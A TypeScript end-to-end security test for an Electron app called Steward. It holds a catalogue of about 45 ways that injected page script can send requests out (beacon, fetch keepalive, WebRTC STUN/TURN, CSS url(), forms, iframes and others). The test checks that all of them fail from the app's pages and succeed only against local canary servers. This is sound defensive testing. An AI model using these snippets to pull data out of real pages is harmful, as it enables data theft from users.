import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { chromium, type Page } from "playwright-core";
import { expect, onTestFinished, test } from "vitest";
import { findChromium } from "../desktop-stand-in/chromium.ts";
import { startSteward } from "../e2e/steward-app.ts";
import { type Canary, startCanary } from "./desktop-world.ts";

/**
 * Attack 9: any request from the renderer. Script that was let into a page tries every way out that a page has. Each way
 * has a canary of its own on loopback, which the same script reaches from a page that nobody holds: so each way is one.
 */

/** Scripts by name; HOST is the canary's. `add` puts an element into the page, `frame` makes an empty one. */
const ways: Readonly<Record<string, string>> = {
  image: "new Image().src = 'http://HOST/x'",
  "image with a set of sources": "add('img', { srcset: 'http://HOST/x 2x' })",
  "picture in text that becomes elements": "add('p', { innerHTML: '<img src=http://HOST/x>' })",
  "picture of an input": "add('input', { type: 'image', src: 'http://HOST/x' })",
  "picture in SVG": "add('p', { innerHTML: '<svg><image href=http://HOST/x /></svg>' })",
  "poster of a video": "add('video', { poster: 'http://HOST/x' })",
  video: "add('video', { src: 'http://HOST/x', preload: 'auto' })",
  audio: "new Audio('http://HOST/x').load()",
  "CSS url() on an element": "document.body.style.background = 'url(http://HOST/x)'",
  "CSS url() in a style": "add('style', { textContent: 'body { background: url(http://HOST/x) }' })",
  "CSS url() in a constructed style": `const sheet = new CSSStyleSheet();
    sheet.replaceSync("body { background: url(http://HOST/x) }");
    document.adoptedStyleSheets.push(sheet)`,
  "CSS @import": "add('style', { textContent: '@import \"http://HOST/x\"' })",
  stylesheet: "add('link', { rel: 'stylesheet', href: 'http://HOST/x' })",
  font: "document.fonts.add(new FontFace('x', 'url(http://HOST/x)')); document.fonts.load('1px x')",
  prefetch: "add('link', { rel: 'prefetch', href: 'http://HOST/x' })",
  preload: "add('link', { rel: 'preload', as: 'script', href: 'http://HOST/x' })",
  "preload of a module": "add('link', { rel: 'modulepreload', href: 'http://HOST/x' })",
  "rules of speculation": `add('script', { type: 'speculationrules',
    textContent: JSON.stringify({ prefetch: [{ urls: ['http://HOST/x'], eagerness: 'immediate' }] }) })`,
  fetch: "fetch('http://HOST/x').catch(() => 0)",
  "fetch that outlives the page":
    "fetch('http://HOST/x', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }).catch(() => 0)",
  XMLHttpRequest:
    "const ask = new XMLHttpRequest(); ask.open('POST', 'http://HOST/x'); ask.onerror = () => 0; ask.send('x')",
  beacon: "navigator.sendBeacon('http://HOST/x', 'x')",
  WebSocket: "new WebSocket('ws://HOST/x')",
  EventSource: "new EventSource('http://HOST/x')",
  WebTransport: "new WebTransport('https://HOST/x').ready.catch(() => 0)",
  "WebRTC, UDP": "rtc({ urls: 'stun:HOST' })",
  "WebRTC, TCP": "rtc({ urls: 'turn:HOST?transport=tcp', username: 'x', credential: 'x' })",
  "WebRTC of an empty frame": `const { RTCPeerConnection: Peer } = frame();
    rtc({ urls: 'stun:HOST' }, Peer)`,
  "fetch of an empty frame": "frame().fetch('http://HOST/x').catch(() => 0)",
  script: "add('script', { src: 'http://HOST/x' })",
  "import()": "import('http://HOST/x').catch(() => 0)",
  worker: `new Worker(URL.createObjectURL(new Blob(["fetch('http://HOST/x').catch(() => 0)"])))`,
  worklet: "CSS.paintWorklet.addModule('http://HOST/x').catch(() => 0)",
  frame: "add('iframe', { src: 'http://HOST/x' })",
  "frame with its own text": "add('iframe', { srcdoc: '<img src=http://HOST/x>' })",
  "frame of data:": "add('iframe', { src: 'data:text/html,<img src=http://HOST/x>' })",
  object: "add('object', { data: 'http://HOST/x' })",
  embed: "add('embed', { src: 'http://HOST/x' })",
  form: "add('form', { action: 'http://HOST/x', method: 'post' }).submit()",
  "form in a frame":
    "frame().name = 'inner'; add('form', { action: 'http://HOST/x', target: 'inner' }).submit()",
  "link with ping": "add('a', { href: '#x', ping: 'http://HOST/x' }).click()",
  link: "add('a', { href: 'http://HOST/x' }).click()",
  "link to a new window": "add('a', { href: 'http://HOST/x', target: '_blank' }).click()",
  "new window": "window.open('http://HOST/x')",
  "address of the page": "location.href = 'http://HOST/x'",
  "refresh by the page": "add('meta', { httpEquiv: 'refresh', content: '0;url=http://HOST/x' })",
};

const run = (script: string) => `(async () => {
  const add = (name, fields) => {
    const element = Object.assign(document.createElement(name), fields);
    document.body.append(element);
    return element;
  };
  const frame = () => add("iframe", {}).contentWindow;
  const rtc = async (server, Peer = RTCPeerConnection) => {
    const peer = new Peer({ iceServers: [server] });
    peer.createDataChannel("x");
    const gathered = new Promise((done) => { peer.onicecandidate = ({ candidate }) => candidate ?? done(); });
    await peer.setLocalDescription(await peer.createOffer());
    (window.gathering ??= []).push(gathered);
  };
  try { ${script} } catch { /* refused: what counts is what arrived */ }
  return 0;
})()`;

const names = Object.keys(ways);

test("attack 9: what a page may do elsewhere to send something, no page of Steward can", async () => {
  const free = await startFreePages();
  const onFree = await canariesOf(names);
  for (const [name, canary] of onFree) {
    const page = await free.open();
    // A page that leaves takes the script's answer with it.
    await page.evaluate(scriptOf(name, canary)).catch(() => undefined);
    // In front until it has: Chromium fetches nothing ahead for a page that nobody looks at.
    await expect.poll(() => canary.reached, { message: name, interval: 20 }).not.toEqual([]);
  }

  const app = await startSteward({ files: { "notes.md": "one\n" } });
  const { desktop, page } = app;
  const [before] = page.url().split("#");
  const onSteward = await canariesOf(names);
  for (const [name, canary] of onSteward) await page.evaluate(scriptOf(name, canary));
  await page.evaluate("Promise.all(window.gathering ?? [])");
  expect(page.url().split("#")[0]).toBe(before);
  expect(await desktop.windows()).toHaveLength(2);
  expect(await desktop.openedExternally()).toEqual([]);
  // Real Electron takes the policy of each page from here; the stand-in's Chromium from the command line.
  const policies = await desktop.evaluate<string[]>(
    "(electron) => electron.BrowserWindow.getAllWindows().map(({ webContents }) => webContents.getWebRTCIPHandlingPolicy())",
  );
  expect(policies).toEqual(["disable_non_proxied_udp", "disable_non_proxied_udp"]);
  // The policy for content says what it refused: that is its work here.
  app.complaints.length = 0;
  await app.end();
  // Only now, when nothing of the app is left that could still send.
  expect(namesOf(onSteward, ({ reached }) => reached.length > 0)).toEqual([]);
}, 180_000);

function scriptOf(name: string, { host }: Canary): string {
  return run((ways[name] ?? "").replaceAll("HOST", host));
}

function namesOf(canaries: ReadonlyMap<string, Canary>, holds: (canary: Canary) => boolean): string[] {
  return [...canaries].filter(([, canary]) => holds(canary)).map(([name]) => name);
}

async function canariesOf(all: readonly string[]): Promise<Map<string, Canary>> {
  const made = await Promise.all(all.map(async (name) => [name, await startCanary()] as const));
  return new Map(made);
}

/** Pages of a plain server in a plain Chromium, which may do all that pages may. */
async function startFreePages(): Promise<{ open(): Promise<Page> }> {
  const server: Server = createServer((_request, response) => {
    response.setHeader("content-type", "text/html");
    response.end("<!doctype html><title>Free</title><body>");
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- a TCP server always has such an address
  const { port } = server.address() as AddressInfo;
  const args = process.getuid?.() === 0 ? ["--no-sandbox"] : [];
  const browser = await chromium.launch({ executablePath: findChromium() ?? "", args });
  onTestFinished(async () => {
    await browser.close();
    server.close();
  });
  // One for all: a context of its own has a window of its own, which costs more than the page in it.
  const context = await browser.newContext();
  const open = async (): Promise<Page> => {
    const page = await context.newPage();
    await page.goto(`http://127.0.0.1:${port}/`);
    return page;
  };
  return { open };
}
